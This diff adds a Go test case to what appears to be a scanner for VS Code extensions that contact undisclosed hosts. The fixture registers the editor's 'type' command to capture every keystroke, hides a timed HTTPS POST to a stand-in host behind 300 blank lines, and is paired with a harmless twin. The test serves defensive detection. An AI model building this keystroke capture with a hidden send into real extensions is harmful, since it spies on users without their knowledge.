@@ -112,3 +112,14 @@ func TestProgramsBesideARequest(t *testing.T) {
 	shared := asks(`runs('git'); runs(context.globalState.get('server'));`)
 	testTwins(t, []twin{{"a program by its name", asks(`runs('git');`), shared, chainUntoldHost}})
 }
+
+// Who takes the editor's command over hears every key, however far that stands from what asks the host.
+func TestKeysBesideARequest(t *testing.T) {
+	hears := func(command string) string {
+		return `const vscode = require('vscode'); const https = require('https');
+			exports.activate = (context) => { context.subscriptions.push(vscode.commands.registerCommand('` + command + `', (a) => count(a)));
+			setInterval(save, 60000); }; const all = []; function count(a) { all.push(a); }` + strings.Repeat("\n", 300) + `
+			function save() { https.request('https://heat.count.invalid/h', { method: 'POST' }).end(String(all.length)); }`
+	}
+	testTwins(t, []twin{{"what is typed", hears("type"), hears("words.count"), chainUntoldHost}})
+}
